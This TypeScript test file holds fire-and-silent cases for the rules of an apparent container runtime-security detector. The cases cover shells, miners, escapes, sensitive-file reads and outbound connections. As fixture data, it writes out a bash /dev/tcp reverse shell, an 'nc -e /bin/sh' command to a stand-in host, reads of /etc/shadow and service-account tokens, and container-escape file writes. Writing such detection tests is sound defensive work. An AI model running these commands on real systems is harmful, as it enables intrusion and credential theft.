import { canaryMarker } from '../../core/events/canary.ts';
import { call, connect, connection, exec, open, READ, thread, unixConnect, WRITE_TRUNCATE } from './build.ts';
import type { RuleCases } from './rule-cases.ts';

const SHELL = { comm: 'sh', exe: 'sh', exepath: '/bin/sh' };
const HOST = { container: undefined };
const runtime = thread({ comm: 'runc:[2:INIT]' });

export const SYSCALL_CASES: RuleCases = {
  'Eyrie canary': {
    fires: [exec({ comm: 'true', args: [canaryMarker(1_700_000_000_000, 7)], ...HOST })],
    silent: [
      exec({ comm: 'true', args: [canaryMarker(1_700_000_000_000, 7)] }),
      exec({ comm: 'true', args: ['eyrie'], ...HOST }),
    ],
  },
  'Terminal shell in container': {
    fires: [exec({ ...SHELL, tty: 34816, parent: runtime }), exec({ ...SHELL, comm: 'bash', tty: 34816 })],
    silent: [
      exec({ ...SHELL, tty: 0, parent: runtime }),
      exec({ ...SHELL, tty: 34816, ...HOST }),
      exec({ ...SHELL, tty: 34816, parent: thread(SHELL) }),
      call('execve', { ...SHELL, tty: 34816 }, { res: -2 }),
    ],
  },
  'Program not part of the image executed': {
    fires: [
      exec({ comm: 'xmrig', exepath: '/tmp/xmrig', exeUpperLayer: true }),
      exec({ comm: '3', exepath: 'memfd:x', exeFromMemfd: true }),
    ],
    silent: [
      exec({ comm: 'ls', exepath: '/bin/ls' }),
      exec({ comm: 'tool', exepath: '/opt/tool', exeUpperLayer: true, ...HOST }),
      exec({ comm: 'runc:[2:INIT]', exepath: 'memfd:runc_cloned:/proc/self/exe', exeFromMemfd: true }),
    ],
  },
  'Package management in container': {
    fires: [
      exec({ comm: 'apk', args: ['add', 'nmap'] }),
      exec({ comm: 'apt-get', args: ['install', 'gcc'] }),
    ],
    silent: [
      exec({ comm: 'apk', ...HOST }),
      exec({ comm: 'dpkg', parent: thread({ comm: 'apt-get' }) }),
      exec({ comm: 'apk-tool' }),
    ],
  },
  'Reconnaissance tool in container': {
    fires: [exec({ comm: 'nmap', args: ['-sS', '10.0.0.0/8'] })],
    silent: [exec({ comm: 'nmap', ...HOST }), exec({ comm: 'curl' })],
  },
  'Fileless program prepared in memory': {
    fires: [call('memfd_create', { comm: 'perl' }, { res: 3, args: { fd: 3, name: 'x', flags: 1 } })],
    silent: [
      call('memfd_create', { comm: 'runc:[1:CHILD]' }, { res: 3 }),
      call('memfd_create', { comm: 'java' }, { res: 3 }),
      call('memfd_create', { comm: 'perl', ...HOST }, { res: 3 }),
    ],
  },
  'Crypto-mining connection': {
    fires: [
      connect('203.0.113.10', 3333, { comm: 'xmrig', exepath: '/tmp/xmrig' }),
      connect('198.51.100.4', 14444, { comm: 'kworker', args: ['-o', 'stratum+tcp://pool:14444'] }),
    ],
    silent: [
      connect('203.0.113.10', 443, { comm: 'curl', args: ['https://203.0.113.10'] }),
      connect('10.0.3.9', 3333, { comm: 'app', args: ['--algo', 'x'] }),
    ],
  },
  'Crypto-miner started': {
    fires: [
      exec({ comm: 'xmrig', exepath: '/usr/bin/xmrig' }),
      exec({ comm: 'x', args: ['-o', 'stratum+tcp://pool.example:3333'] }),
      exec({ comm: 'x', args: ['--url', 'gulf.moneroocean.stream:10128'] }),
    ],
    silent: [exec({ comm: 'x', args: ['--pool', 'database'] })],
  },
  'Container runtime socket accessed from container': {
    fires: [
      unixConnect('/var/run/docker.sock', { comm: 'curl' }),
      unixConnect('0->ffff88 /run/containerd/containerd.sock', { comm: 'ctr' }),
    ],
    silent: [
      unixConnect('/var/run/docker.sock', { comm: 'docker', ...HOST }),
      unixConnect('/run/app.sock', { comm: 'app' }),
    ],
  },
  'Namespace changed by container': {
    fires: [call('setns', { comm: 'nsenter' }, { args: { fd: 3, nstype: 0 }, argText: { nstype: '0' } })],
    silent: [call('setns', { comm: 'runc:[1:CHILD]' }), call('setns', { comm: 'ip', ...HOST })],
  },
  'nsenter started in container': {
    fires: [exec({ comm: 'nsenter', args: ['-t', '1', '-m', 'sh'] })],
    silent: [exec({ comm: 'nsenter', ...HOST })],
  },
  'Mount by container': {
    fires: [
      call('mount', { comm: 'mount' }, { args: { res: 0, dev: '/dev/sda1', dir: '/mnt', type: 'ext4' } }),
    ],
    silent: [call('mount', { comm: 'runc:[2:INIT]' }), call('mount', { comm: 'mount', ...HOST })],
  },
  'Kernel module loaded by container': {
    fires: [call('finit_module', { comm: 'insmod' }, { res: -1 }), call('init_module', { comm: 'insmod' })],
    silent: [call('finit_module', { comm: 'modprobe', ...HOST })],
  },
  'Escape file written by container': {
    fires: [
      open('/proc/sys/kernel/core_pattern', WRITE_TRUNCATE, SHELL),
      open('/sys/fs/cgroup/rdma/release_agent', WRITE_TRUNCATE, SHELL),
    ],
    silent: [
      open('/proc/sys/kernel/core_pattern', READ, SHELL),
      open('/tmp/core_pattern', WRITE_TRUNCATE, SHELL),
    ],
  },
  'Process traced in container': {
    fires: [
      call(
        'ptrace',
        { comm: 'inject' },
        { args: { res: 0, request: 16, pid: 9 }, argText: { request: 'PTRACE_ATTACH' } },
      ),
    ],
    silent: [
      call('ptrace', { comm: 'gdb' }, { args: { request: 16 }, argText: { request: 'PTRACE_ATTACH' } }),
      call('ptrace', { comm: 'x' }, { args: { request: 0 }, argText: { request: 'PTRACE_TRACEME' } }),
    ],
  },
  'Read sensitive file': {
    fires: [
      open('/etc/shadow', READ, { comm: 'cat', exe: 'cat', args: ['/etc/shadow'] }),
      open('/home/app/.ssh/id_rsa', READ, { comm: 'tar', ...HOST }),
    ],
    silent: [
      open('/etc/shadow', READ, { comm: 'sshd', ...HOST }),
      open('/etc/passwd', READ, { comm: 'cat' }),
      { ...open('/etc/shadow', READ, { comm: 'cat' }), fdNum: -1, res: -13 },
    ],
  },
  'Service account token read by tool': {
    fires: [open('/run/secrets/kubernetes.io/serviceaccount/..2026/token', READ, { comm: 'cat' })],
    silent: [
      open('/var/run/secrets/kubernetes.io/serviceaccount/token', READ, { comm: 'app' }),
      open('/var/run/secrets/kubernetes.io/serviceaccount/ca.crt', READ, { comm: 'cat' }),
    ],
  },
  'Write below binary directory': {
    fires: [open('/usr/bin/ls', WRITE_TRUNCATE, { comm: 'cp' })],
    silent: [
      open('/usr/bin/ls', WRITE_TRUNCATE, { comm: 'tar', parent: thread({ comm: 'dpkg' }) }),
      open('/usr/bin/ls', READ, { comm: 'cp' }),
      open('/opt/bin/ls', WRITE_TRUNCATE, { comm: 'cp' }),
    ],
  },
  'Write below etc': {
    fires: [open('/etc/cron.d/job', WRITE_TRUNCATE, SHELL)],
    silent: [
      open('/etc/passwd-', WRITE_TRUNCATE, { comm: 'useradd', ...HOST }),
      open('/etc/resolv.conf', WRITE_TRUNCATE, { comm: 'app' }),
      open('/srv/etc/x', WRITE_TRUNCATE, SHELL),
    ],
  },
  'Log files cleared': {
    fires: [
      open('/var/log/app.log', WRITE_TRUNCATE, SHELL),
      call('unlinkat', { comm: 'rm' }, { args: { res: 0, dirfd: -100, name: '/var/log/app.log', flags: 0 } }),
      call(
        'unlinkat',
        { comm: 'rm' },
        { args: { res: 0, name: 'app.log' }, argText: { name: 'app.log(/var/log/app.log)' } },
      ),
      call('unlink', { comm: 'rm' }, { args: { res: 0, path: '/root/.bash_history' } }),
    ],
    silent: [
      open('/var/log/app.log', READ, SHELL),
      call(
        'rename',
        { comm: 'logrotate', ...HOST },
        { args: { res: 0, oldpath: '/var/log/syslog', newpath: '/var/log/syslog.1' } },
      ),
      call('unlink', { comm: 'rm' }, { args: { res: 0, path: '/tmp/x' } }),
    ],
  },
  'Program made setuid': {
    fires: [
      call(
        'fchmodat',
        { comm: 'chmod' },
        { args: { res: 0, filename: '/tmp/sh', mode: 0o4755 }, argText: { mode: 'S_IXUSR|S_ISUID' } },
      ),
    ],
    silent: [
      call(
        'fchmodat',
        { comm: 'chmod' },
        { args: { res: 0, filename: '/tmp/sh' }, argText: { mode: 'S_IXUSR' } },
      ),
    ],
  },
  'Reverse shell': {
    fires: [call('dup2', { comm: 'python3' }, { res: 0, fdNum: 0, fd: connection('203.0.113.9', 4444) })],
    silent: [
      call('dup2', { comm: 'nginx' }, { res: 7, fdNum: 7, fd: connection('203.0.113.9', 4444) }),
      call(
        'dup2',
        { comm: 'sh' },
        {
          res: 0,
          fdNum: 0,
          fd: { typechar: 'p', name: '', nameRaw: undefined, tuple: undefined, openFlags: 0 },
        },
      ),
    ],
  },
  'Remote shell command line': {
    fires: [
      exec({ comm: 'nc', args: ['-e', '/bin/sh', '203.0.113.9', '4444'] }),
      exec({ ...SHELL, comm: 'bash', args: ['-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }),
    ],
    silent: [exec({ comm: 'nc', args: ['-z', 'db', '5432'] }), exec({ ...SHELL, args: ['-c', 'ls'] })],
  },
  'API server contacted from container by tool': {
    fires: [connect('10.96.0.1', 443, { comm: 'curl' }), connect('192.0.2.1', 6443, { comm: 'kubectl' })],
    silent: [connect('10.96.0.1', 443, { comm: 'controller' }), connect('10.96.0.10', 53, { comm: 'curl' })],
  },
  'Cloud metadata service contacted from container': {
    fires: [connect('169.254.169.254', 80, { comm: 'curl' })],
    silent: [connect('169.254.169.254', 80, { comm: 'aws-node' })],
  },
  'Unexpected outbound connection': {
    fires: [connect('203.0.113.10', 4444, { comm: 'netkit' }), connect('2001:db8::7', 8443, { comm: 'app' })],
    silent: [
      connect('203.0.113.10', 443, { comm: 'app' }),
      connect('10.1.2.3', 8080, { comm: 'app' }),
      connect('203.0.113.10', 4444, { comm: 'ssh', ...HOST }),
      connect('fe80::1', 8080, { comm: 'app' }),
      { ...connect('203.0.113.10', 4444, { comm: 'app' }), res: -111 },
    ],
  },
};
